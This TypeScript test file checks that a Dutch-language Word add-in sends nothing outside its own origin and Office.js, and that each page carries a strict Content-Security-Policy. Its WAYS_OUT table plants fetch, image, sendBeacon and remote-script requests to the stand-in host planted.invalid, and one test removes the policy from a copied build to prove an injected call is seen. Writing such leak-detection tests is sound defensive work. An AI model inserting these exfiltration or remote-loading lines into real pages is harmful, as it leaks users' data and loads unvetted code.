/**
 * Nothing leaves the machine. Every feature is used; any request beyond the page's own origin and
 * Office.js fails the test, and so does one that the page's policy had to stop. Planted requests
 * prove that both are seen.
 */
import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { supplierDocx } from "../corpus/supplier";
import { closeBrowser, openAddin, type OpenAddin } from "../support/browser";
import { ensureDist } from "../support/dist";
import { openPage, paneFrame, settled, pageNames } from "./support/frame";
import { card, check, edit, goTo, insert, writeAnnex } from "./support/pane";

let word: OpenAddin;
afterEach(() => word.close());
afterAll(() => closeBrowser());

/** What went out, and what the policy had to stop. */
const leaks = () => [
  ...word.outside,
  ...word.problems.filter((text) => text.includes("Content Security Policy")),
];

test("every feature is used: no request beyond the page's own origin and Office.js", async () => {
  word = await openAddin({ document: supplierDocx(), wordApi: "1.9" });
  // The answers of a document of others, read by the check.
  await openPage(word, "Invullen");
  await word.pane.getByRole("button", { name: "Toon Naam Verwerker in het document" }).click();
  await word.setTracking(true);
  await edit(word, "3.7", "schriftelijke", "elektronische");
  await word.setTracking(false);
  await check(word);
  for (const view of ["Alles geweigerd", "Beide naast elkaar", "Alles geaccepteerd"])
    await word.pane.getByRole("radio", { name: view }).check();
  await (await card(word, "3.7")).getByRole("button", { name: "Toon 3.7 in het document" }).click();
  await writeAnnex(word);
  await insert(word, { part: "form bijlage-5", where: "Aan het einde" });
  for (const name of await pageNames(word)) await openPage(word, name);
  await goTo(word, "Invullen");
  const answer = word.pane.getByRole("textbox").first();
  await answer.fill("Jansen & Zn.");
  await word.pane.getByRole("button", { name: /^In het document zetten \(\d+\)$/ }).click();
  await settled(word);
  await openPage(word, "Bewaarde gegevens");
  await word.pane.getByLabel("Naam organisatie").fill("Stichting Voorbeeld");
  await word.pane.getByRole("button", { name: "Bewaren", exact: true }).click();
  const [download] = await Promise.all([
    word.page.waitForEvent("download"),
    word.pane.getByRole("button", { name: "Exporteren" }).click(),
  ]);
  const buffer = await readFile(await download.path());
  const file = { name: "profiel.json", mimeType: "application/json", buffer };
  await word.pane.locator("input[type=file]").setInputFiles(file);
  await word.pane.getByText("De gegevens uit het bestand zijn overgenomen").first().waitFor();
  for (const button of ["insertContactForm", "insertBreachForm", "insertDeviationAnnex"])
    await word.press(button);
  expect(leaks()).toEqual([]);
  expect(word.problems).toEqual([]);
}, 240_000);

/** Ways out of a page, as script. The address is reserved: it exists nowhere. */
const WAYS_OUT = {
  fetch: "void fetch('https://planted.invalid/').catch(() => 0);",
  image: "new Image().src = 'https://planted.invalid/a.png';",
  beacon: "navigator.sendBeacon('https://planted.invalid/', 'text');",
  script:
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://planted.invalid/a.js' }));",
};

test.each(Object.entries(WAYS_OUT))(
  "a planted %s is stopped by the policy, and seen",
  async (_, script) => {
    word = await openAddin();
    const frame = await paneFrame(word);
    expect(leaks()).toEqual([]);
    await frame.evaluate(script);
    await word.page.waitForTimeout(500);
    expect(leaks()).not.toEqual([]);
  },
  120_000,
);

test("a request planted in a build without a policy goes out, and is seen", async () => {
  const addin = await mkdtemp(join(tmpdir(), "modeltrouw-planted-"));
  try {
    await cp(await ensureDist(), addin, { recursive: true });
    const path = join(addin, "taskpane.html");
    const html = (await readFile(path, "utf8")).replace(
      /<meta http-equiv="Content-Security-Policy"[^>]*>/,
      "",
    );
    await writeFile(path, html.replace("</body>", `<script>${WAYS_OUT.fetch}</script></body>`));
    word = await openAddin({ addin });
    await paneFrame(word);
    expect(word.outside).toEqual(["https://planted.invalid/"]);
  } finally {
    await rm(addin, { recursive: true, force: true });
  }
}, 120_000);

test("the policy of each page: nothing but itself and Office.js; only styles inline", async () => {
  word = await openAddin();
  const dist = await ensureDist();
  for (const page of ["taskpane", "commands", "message"]) {
    const html = await readFile(join(dist, `${page}.html`), "utf8");
    const policy = /http-equiv="Content-Security-Policy"\s+content="([^"]*)"/.exec(html)?.[1] ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
    expect(policy).toContain("connect-src 'self';");
    expect(policy).not.toMatch(/unsafe-eval|\*|script-src[^;]*unsafe-inline/);
    expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<script"));
  }
}, 60_000);
